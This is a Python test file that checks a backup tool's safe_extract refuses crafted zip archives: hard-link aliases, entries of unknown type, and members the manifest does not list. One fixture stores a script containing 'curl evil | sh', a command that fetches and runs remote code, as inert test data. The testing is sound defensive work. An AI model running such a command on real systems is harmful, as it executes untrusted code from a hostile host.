"""safe_extract's refusals added for restores: hard links, entries of unknown type, members the manifest does not list.

(The path, link and device refusals are in test_archive.py.) Each crafted archive is refused before
anything is written, and nothing appears outside the target.
"""

from __future__ import annotations

import copy
import stat
import warnings
import zipfile
from pathlib import Path

import pytest

from backup_ops.core.errors import UnsafeArchiveError
from backup_ops.core.extract import safe_extract


def plain_zip(path: Path, entries: dict[str, tuple[bytes, int | None]]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w") as zf:
            for name, (data, mode) in entries.items():
                info = zipfile.ZipInfo(name)
                if mode is not None:
                    info.external_attr = mode << 16
                    info.create_system = 3
                zf.writestr(info, data)
    return path


def test_a_second_name_for_another_members_data_is_a_hard_link_and_refused(tmp_path: Path) -> None:
    path = plain_zip(tmp_path / "links.zip", {"config/app.php": (b"<?php return [];", None)})
    with zipfile.ZipFile(path, "a") as zf:  # a central-directory entry pointing at the first one's data
        alias = copy.copy(zf.getinfo("config/app.php"))
        alias.filename = alias.orig_filename = "public/app.php"
        zf.filelist.append(alias)
        zf.NameToInfo[alias.filename] = alias
        zf._didModify = True  # type: ignore[attr-defined]
    out = tmp_path / "out"
    with pytest.raises(UnsafeArchiveError, match=r"member 'public/app\.php' is a hard link \(it shares its stored "
                                                 r"data with 'config/app\.php'\)"):
        safe_extract(path, out, password=None)
    assert list(out.iterdir()) == []


def test_an_entry_of_unknown_type_is_refused(tmp_path: Path) -> None:
    path = plain_zip(tmp_path / "odd.zip", {"ok.txt": (b"ok", None), "door": (b"", 0o150000 | 0o644)})
    with pytest.raises(UnsafeArchiveError, match=r"member 'door' is an entry of unknown type \(mode 0o150000\)"):
        safe_extract(path, tmp_path / "out", password=None)


def test_members_the_manifest_does_not_list_are_refused_before_writing(tmp_path: Path) -> None:
    path = plain_zip(tmp_path / "added.zip", {"uploads/a.pdf": (b"%PDF", stat.S_IFREG | 0o644),
                                              "uploads/payload.sh": (b"curl evil | sh", stat.S_IFREG | 0o755),
                                              "manifest.json": (b"{}", None)})
    out = tmp_path / "out"
    with pytest.raises(UnsafeArchiveError, match=r"member 'uploads/payload\.sh' is not listed in its manifest"):
        safe_extract(path, out, password=None, members=["uploads/a.pdf"], listed={"uploads/a.pdf"})
    assert list(out.iterdir()) == []
    created = safe_extract(path, tmp_path / "out2", password=None, members=["uploads/a.pdf"],
                           listed={"uploads/a.pdf", "uploads/payload.sh"})
    assert created == [tmp_path / "out2" / "uploads" / "a.pdf"]
    assert not (tmp_path / "out2" / "uploads" / "payload.sh").exists()
